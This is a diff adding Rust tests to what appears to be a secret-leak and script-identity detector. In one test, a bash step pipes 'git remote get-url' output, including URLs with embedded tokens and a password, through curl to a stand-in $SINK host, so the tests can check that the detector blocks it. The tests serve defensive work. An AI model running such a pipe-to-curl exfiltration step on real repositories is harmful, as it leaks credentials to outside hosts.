@@ -3,7 +3,7 @@
 use detector::event::{Body, Exec};
 use detector_common::command::line;
 use detector_tests::{scene::Scene, watched::Watched};
-use std::{fs, os::unix::fs::PermissionsExt as _, path::Path};
+use std::{fs, os::unix::fs::PermissionsExt as _, path::Path, process::Command};
 
 type Result = anyhow::Result<()>;
 
@@ -100,5 +100,75 @@ fn a_script_of_the_same_name_is_another_one() -> Result {
     let told = tell(&scene, &format!("{0} --version; node {0} --version", script.display()))?;
     assert!(told.execs.iter().any(|(exec, _)| exec.script != 0), "its name names the script");
     assert_eq!(told.scripts, ["", ""]);
+    Ok(())
+}
+
+/// The steps of `text`, in a directory of their own that is no directory of programs.
+fn in_place(text: &str) -> anyhow::Result<Told> {
+    let scene = Scene::new()?;
+    let own = tempfile::tempdir()?;
+    let told = tell(&scene, &format!("cd {} && {text}", own.path().display()))?;
+    Ok(told)
+}
+
+#[test]
+fn what_an_installer_installs_is_declared() -> Result {
+    let told = in_place("/usr/bin/python3 -m venv v && v/bin/pip --version && v/bin/python -m pip --version")?;
+    // Between them ensurepip, which is asked for by the first.
+    let pips = told.scripts.iter().filter(|name| *name == "pip").count();
+    assert_eq!((told.scripts.first().map(String::as_str), pips), (Some("venv"), 2), "{:?}", told.scripts);
+    Ok(())
+}
+
+#[test]
+fn what_others_write_in_its_place_is_not() -> Result {
+    let told =
+        in_place("/usr/bin/python3 -m venv v && echo 'print(1)' > v/bin/pip && v/bin/python v/bin/pip --version")?;
+    assert_eq!(told.scripts.last().map(String::as_str), Some(""), "{:?}", told.scripts);
+    // Nor what a copy of an installer makes.
+    let told = in_place(
+        "mkdir -p v/bin && /usr/bin/python3 -c 'open(\"v/bin/pip\", \"w\").write(\"print(1)\")' && python3 v/bin/pip --version",
+    )?;
+    assert_eq!(told.scripts, [""], "{:?}", told.scripts);
+    Ok(())
+}
+
+/// What a step sends that asked git where the repository came from, whose URL is `url`.
+fn asks_for_the_remote(url: &str, line: &str) -> anyhow::Result<(Vec<String>, Vec<u8>)> {
+    let scene = Scene::new()?;
+    // Before the job: what its own command line has is nothing new.
+    for arguments in [&["init", "-q"][..], &["remote", "add", "origin", url]] {
+        let set = Command::new("git").arg("-C").arg(scene.home.workspace()).args(arguments).status()?;
+        assert!(set.success());
+    }
+    let script = format!(
+        "git -C \"$HOME/work/project\" {line} | curl -s -o /dev/null --max-time 10 -d @- \"http://$SINK/report\"; true"
+    );
+    let watched = Watched::run(&scene, &scene.job(["bash", "-c", &script]).mode("enforce"))?;
+    let leaks = watched.leaks().flat_map(|leak| leak.secret.clone()).collect();
+    Ok((leaks, scene.sink.bytes()))
+}
+
+#[test]
+fn what_git_says_of_a_remote_is_searched() -> Result {
+    let lines = ["config --get remote.origin.url", "remote get-url origin", "remote -v"];
+    for line in lines {
+        // The twin first: nothing in it, and it arrives.
+        for url in
+            ["https://forge.example/acme/app.git", "git@forge.example:acme/app.git", "ssh://git@forge.example:22/a.git"]
+        {
+            let (leaks, arrived) = asks_for_the_remote(url, line)?;
+            assert_eq!(leaks, [""; 0], "{line}: {url}");
+            assert!(String::from_utf8_lossy(&arrived).contains("forge.example"), "{line}: {url} did not arrive");
+        }
+        // A token, and a password that looks like none.
+        let token = detector_tests::canary::Canary::fresh("remote")?;
+        for url in
+            [format!("https://{}@forge.example/app.git", token.value()), "https://ci:hunter2@forge.example/".into()]
+        {
+            let (leaks, arrived) = asks_for_the_remote(&url, line)?;
+            assert_eq!((leaks, arrived.len()), (vec!["git".to_owned()], 0), "{line}: {url}");
+        }
+    }
     Ok(())
 }
